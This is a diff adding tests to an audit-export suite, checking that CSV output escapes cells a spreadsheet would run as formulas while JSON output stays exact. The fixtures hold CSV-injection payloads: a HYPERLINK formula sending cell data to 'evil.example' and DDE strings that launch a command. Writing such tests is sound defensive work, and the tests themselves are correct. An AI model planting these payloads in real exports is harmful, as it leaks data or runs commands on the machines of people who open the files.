@@ -100,6 +100,79 @@ describe("audit export", () => {
     }
   });
 
+  it("puts a ' before a cell a spreadsheet would run as a formula, and before one starting with ', so the text is recoverable", () => {
+    expect(csvField('=HYPERLINK("https://evil.example","x")')).toBe('"\'=HYPERLINK(""https://evil.example"",""x"")"');
+    expect(csvField("+1+1")).toBe("'+1+1");
+    expect(csvField("-2+3")).toBe("'-2+3");
+    expect(csvField("@SUM(A1)")).toBe("'@SUM(A1)");
+    expect(csvField("\t=1")).toBe("'\t=1");
+    expect(csvField("\r=1")).toBe('"\'\r=1"');
+    expect(csvField("'quoted'")).toBe("''quoted'");
+    // Anywhere but the start, and in plain text and numbers, nothing changes.
+    expect(csvField("a=b")).toBe("a=b");
+    expect(csvField("x-1")).toBe("x-1");
+    expect(csvField(1800)).toBe("1800");
+    expect(csvField("")).toBe("");
+  });
+
+  it("exports formula-like fields neutralised in CSV and exact in JSON, the CSV text recoverable", async () => {
+    const formulaDir = mkdtempSync(join(tmpdir(), "audit-formula-"));
+    const formulas = openSqlite(join(formulaDir, "bot.sqlite"), { now: () => T0 });
+    try {
+      const tricky = {
+        name: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+        justification: "+cmd|' /C calc'!A0",
+        reason: "-1+1",
+        detail: "@SUM(1+1)*cmd|' /C calc'!A0",
+      };
+      const r = await recordRequest(formulas.stores.requests, tricky.name, tricky.justification, "VF1", DAY, T0);
+      await formulas.stores.requests.transition({
+        id: r.id,
+        from: "pending",
+        to: "denied",
+        actor: "U0APPROVE1",
+        detail: tricky.detail,
+        set: { decisionReason: tricky.reason, decidedBy: "U0APPROVE1", decidedAt: T0 },
+      });
+      const exported = async (format: "csv" | "json") => {
+        let out = "";
+        await writeAudit(formulas.stores.audit, { format, since: undefined }, (chunk) => {
+          out += chunk;
+        });
+        return out;
+      };
+      const rows = parseCsv(await exported("csv")).slice(1);
+      const cells = (name: (typeof CSV_COLUMNS)[number]) => rows.map((row) => row[CSV_COLUMNS.indexOf(name)] ?? "");
+      for (const [column, text] of [
+        ["name", tricky.name],
+        ["justification", tricky.justification],
+        ["decision_reason", tricky.reason],
+      ] as const) {
+        for (const cell of cells(column)) {
+          expect(cell).toBe(`'${text}`);
+          // The documented way back: a cell starting with ' had one ' put in front.
+          expect(cell.startsWith("'") ? cell.slice(1) : cell).toBe(text);
+        }
+      }
+      expect(cells("detail")).toContain(`'${tricky.detail}`);
+      // No cell a spreadsheet would run is left.
+      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+      const json = JSON.parse(await exported("json")) as {
+        requests: { name: string; justification: string; decisionReason: string; transitions: { detail: string }[] }[];
+      };
+      expect(json.requests[0]).toMatchObject({
+        name: tricky.name,
+        justification: tricky.justification,
+        decisionReason: tricky.reason,
+      });
+      expect(json.requests[0]?.transitions.map((t) => t.detail)).toContain(tricky.detail);
+    } finally {
+      await formulas.close();
+      rmSync(formulaDir, { recursive: true, force: true });
+    }
+  });
+
   it("quotes exactly the fields that need it", () => {
     expect(csvField("plain")).toBe("plain");
     expect(csvField("a,b")).toBe('"a,b"');
